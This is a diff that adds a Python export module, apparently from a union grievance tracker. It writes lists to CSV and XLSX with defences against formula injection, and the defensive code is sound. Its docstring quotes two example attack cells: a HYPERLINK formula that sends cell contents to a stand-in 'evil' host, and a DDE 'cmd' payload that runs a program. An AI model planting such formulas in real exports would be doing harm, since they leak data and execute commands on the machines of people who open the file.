@@ -1,0 +1,272 @@
+"""Exporting lists — matters of a kind, members, deadlines — to CSV and XLSX, safely.
+
+A spreadsheet program treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula:
+a grievance titled ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``=cmd|'/c calc'!A1`` would
+run when an officer opens the export (CSV injection). Case text comes from members, stewards'
+spreadsheets and agency correspondence, so exports neutralise it:
+
+* **CSV** — following the OWASP guidance, a text cell beginning with ``=``, ``+``, ``-``, ``@``,
+  tab or carriage return is prefixed with a single quote (spreadsheets show the text; the quote
+  marks that it was neutralised), and every text cell is quoted. Numbers stay numbers.
+  Files are UTF-8 with a byte-order mark so that Excel reads accents and right-to-left text.
+* **XLSX** — text is written as a string cell (``t="inlineStr"``), never as a formula, so no
+  prefix is needed and the text is exact. Dates are real dates (``yyyy-mm-dd``) that sort and
+  filter as dates.
+
+Both formats drop characters that spreadsheets cannot hold (control characters other than tab
+and line breaks, lone surrogates, U+FFFE/U+FFFF). XLSX cells hold at most 32,767 characters;
+longer text is cut there with a note. Members' contact details (email, phone, and the free-text
+notes, which often carry them) can be left out. Files are written to a temporary name, readable
+by the user only, and renamed into place, so a failed export never leaves half a file.
+
+Openpyxl's write-only mode streams rows to the file, so 100,000 grievances export in seconds
+without building a workbook in memory.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import os
+import re
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
+from datetime import date, datetime
+from pathlib import Path
+from typing import Any
+
+from naij_tracker.db.errors import StorageError
+from naij_tracker.db.opening import Database
+from naij_tracker.domain import kinds as k
+from naij_tracker.domain.kinds import MatterKind
+
+#: What ``naij-tracker export KIND`` accepts, and what the lists are called in the GUI.
+MATTER_EXPORTS: dict[str, MatterKind] = {
+    "bargaining": MatterKind.BARGAINING,
+    "flra": MatterKind.FLRA,
+    "grievances": MatterKind.GRIEVANCE,
+    "metrics": MatterKind.METRIC_DISPUTE,
+}
+EXPORT_KINDS: tuple[str, ...] = (*MATTER_EXPORTS, "members", "deadlines")
+FORMATS = (".csv", ".xlsx")
+
+#: OWASP: cells starting with these are interpreted as formulas (or start one) by spreadsheets.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+XLSX_MAX_CELL = 32_767
+_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
+_SURROGATE = re.compile("[\ud800-\udfff]")
+CONTACT_COLUMNS = frozenset({"Email", "Phone", "Notes"})
+
+
+@dataclass(frozen=True)
+class ExportTable:
+    """A list ready to be written: a sheet title, column headers and rows of plain values."""
+
+    title: str
+    headers: tuple[str, ...]
+    rows: Sequence[Sequence[Any]]
+
+    def without(self, headers: Iterable[str]) -> ExportTable:
+        drop = set(headers)
+        keep = [i for i, h in enumerate(self.headers) if h not in drop]
+        return ExportTable(self.title, tuple(self.headers[i] for i in keep),
+                           [tuple(r[i] for i in keep) for r in self.rows])
+
+
+# -- cleaning cells ----------------------------------------------------------------------------
+
+def sanitize(text: str) -> str:
+    """Remove what no spreadsheet can hold (NUL and other control characters, lone surrogates)."""
+    text = _ILLEGAL.sub("", text)
+    return _SURROGATE.sub("\ufffd", text)
+
+
+def neutralise(text: str) -> str:
+    """Prefix a quote to text that a spreadsheet would run as a formula (OWASP CSV injection)."""
+    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
+
+
+def csv_cell(value: Any) -> Any:
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "yes" if value else "no"
+    if isinstance(value, datetime):
+        return value.isoformat(sep=" ", timespec="minutes")
+    if isinstance(value, date):
+        return value.isoformat()
+    if isinstance(value, float):
+        return int(value) if value.is_integer() and abs(value) < 2**53 else value
+    if isinstance(value, int):
+        return value
+    return neutralise(sanitize(str(value)))
+
+
+def xlsx_text(value: str) -> str:
+    text = sanitize(value).replace("\r\n", "\n").replace("\r", "\n")
+    if len(text) > XLSX_MAX_CELL:
+        note = f" … [cut: {len(text):,} characters in the case file]"
+        text = text[: XLSX_MAX_CELL - len(note)] + note
+    return text
+
+
+# -- building tables from the database ---------------------------------------------------------
+
+def matters_table(db: Database, kind: MatterKind | str, *, include_closed: bool = False,
+                  text_filter: str = "", statuses: Sequence[str] = ()) -> ExportTable:
+    """Matters of ``kind`` with the columns of their list in the GUI (labels, not codes)."""
+    from naij_tracker.services.queries import list_matters
+
+    kind = MatterKind(kind)
+    result = list_matters(db, kind, text_filter=text_filter, statuses=statuses,
+                          include_closed=include_closed)
+    return table_from_list(kind.plural, tuple(c.label for c in result.columns), result.rows)
+
+
+def table_from_list(title: str, headers: Sequence[str],
+                    rows: Iterable[Sequence[Any]]) -> ExportTable:
+    """An export of list rows as the GUI holds them: (matter id, *values) — the id is dropped."""
+    return ExportTable(title, tuple(headers), [tuple(r[1:]) for r in rows])
+
+
+def members_table(db: Database, *, contacts: bool = True, text_filter: str = "") -> ExportTable:
+    from naij_tracker.services.people import PeopleService
+
+    rows = [(m.name, m.court, m.email, m.phone,
+             k.label_of(k.MEMBERSHIP_STATUSES, m.membership_status), m.open_matters, m.notes)
+            for m in PeopleService(db, who="export").members(text_filter)]
+    table = ExportTable("Members", ("Name", "Court", "Email", "Phone", "Membership",
+                                    "Open grievances", "Notes"), rows)
+    return table if contacts else table.without(CONTACT_COLUMNS)
+
+
+def deadlines_table(db: Database, *, include_done: bool = False) -> ExportTable:
+    from naij_tracker.services.queries import deadline_rows
+
+    rows = [(d.due_on, d.title, d.reference, d.matter_title, d.kind.label, d.opens_on,
+             d.trigger_on, k.label_of(k.SERVICE_METHODS, d.service_method)
+             if d.service_method else None, d.rule_id, d.citation, d.explanation, d.done_on)
+            for d in deadline_rows(db, include_done=include_done)]
+    return ExportTable("Deadlines", ("Due", "Deadline", "Matter", "Matter title", "Kind",
+                                     "Window opens", "Trigger", "Service", "Rule", "Citation",
+                                     "How it was counted", "Done"), rows)
+
+
+def table_for(db: Database, what: str, *, include_closed: bool = False,
+              contacts: bool = True) -> ExportTable:
+    """The table for an export kind (see ``EXPORT_KINDS``)."""
+    if what in MATTER_EXPORTS:
+        return matters_table(db, MATTER_EXPORTS[what], include_closed=include_closed)
+    if what == "members":
+        return members_table(db, contacts=contacts)
+    if what == "deadlines":
+        return deadlines_table(db, include_done=include_closed)
+    raise ValueError(f"Cannot export {what!r}; choose one of: {', '.join(EXPORT_KINDS)}.")
+
+
+# -- writing -----------------------------------------------------------------------------------
+
+@contextlib.contextmanager
+def _atomic(path: Path) -> Any:
+    """Yield a temporary path beside ``path``; rename it into place only if all went well."""
+    path = Path(path)
+    tmp = path.with_name(f".{path.name}.{os.getpid()}.partial")
+    try:
+        fd = os.open(tmp, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o600)
+        os.close(fd)
+        yield tmp
+        os.replace(tmp, path)
+    except OSError as exc:
+        raise StorageError(f"Could not write {path}: {exc.strerror or exc}") from exc
+    finally:
+        with contextlib.suppress(OSError):
+            tmp.unlink()
+
+
+def write_csv(table: ExportTable, path: Path) -> Path:
+    path = Path(path)
+    with _atomic(path) as tmp, tmp.open("w", encoding="utf-8-sig", newline="") as fh:
+        writer = csv.writer(fh, quoting=csv.QUOTE_NONNUMERIC)
+        writer.writerow([neutralise(sanitize(h)) for h in table.headers])
+        for row in table.rows:
+            writer.writerow([csv_cell(v) for v in row])
+    return path
+
+
+def _sheet_title(title: str) -> str:
+    cleaned = re.sub(r"[\[\]:*?/\\]", " ", sanitize(title)).strip("' ") or "Export"
+    return cleaned[:31]
+
+
+def _width(value: Any) -> int:
+    if isinstance(value, datetime):
+        return 16
+    if isinstance(value, date):
+        return 11
+    text = str(value) if value is not None else ""
+    return min(max((len(line) for line in text.split("\n")), default=0), 60)
+
+
+def write_xlsx(table: ExportTable, path: Path) -> Path:
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.styles import Font
+    from openpyxl.utils import get_column_letter
+
+    path = Path(path)
+    wb = Workbook(write_only=True)
+    ws = wb.create_sheet(_sheet_title(table.title))
+    ws.freeze_panes = "A2"
+    sample = list(table.rows[:200])
+    for i, header in enumerate(table.headers, start=1):
+        width = max([_width(header), *(_width(r[i - 1]) for r in sample)])
+        ws.column_dimensions[get_column_letter(i)].width = max(width + 2, 8)
+    bold = Font(bold=True)
+
+    def cell(value: Any, header: bool = False) -> Any:
+        if isinstance(value, str):
+            c = WriteOnlyCell(ws, value=xlsx_text(value))
+            c.data_type = "s"  # text, never a formula — whatever it begins with
+        elif isinstance(value, datetime):
+            c = WriteOnlyCell(ws, value=value)
+            c.number_format = "yyyy-mm-dd hh:mm"
+        elif isinstance(value, date):
+            c = WriteOnlyCell(ws, value=value)
+            c.number_format = "yyyy-mm-dd"
+        elif value is None or isinstance(value, bool | int | float):
+            c = WriteOnlyCell(ws, value=value)
+        else:
+            c = WriteOnlyCell(ws, value=xlsx_text(str(value)))
+            c.data_type = "s"
+        if header:
+            c.font = bold
+        return c
+
+    ws.append([cell(h, header=True) for h in table.headers])
+    for row in table.rows:
+        ws.append([cell(v) for v in row])
+    with _atomic(path) as tmp:
+        wb.save(tmp)
+    return path
+
+
+def write_table(table: ExportTable, path: Path | str) -> Path:
+    """Write ``table`` as CSV or XLSX, chosen by the file's extension."""
+    path = Path(path).expanduser()
+    suffix = path.suffix.lower()
+    if suffix == ".csv":
+        return write_csv(table, path)
+    if suffix == ".xlsx":
+        return write_xlsx(table, path)
+    raise ValueError(f"{path.name}: exports are written as .csv or .xlsx; choose one of those.")
+
+
+def export(db: Database, what: str, path: Path | str, *, include_closed: bool = False,
+           contacts: bool = True) -> int:
+    """Export a list to ``path`` (.csv or .xlsx); returns the number of rows written."""
+    suffix = Path(path).suffix.lower()
+    if suffix not in FORMATS:
+        raise ValueError(f"{Path(path).name}: exports are written as .csv or .xlsx.")
+    table = table_for(db, what, include_closed=include_closed, contacts=contacts)
+    write_table(table, path)
+    return len(table.rows)
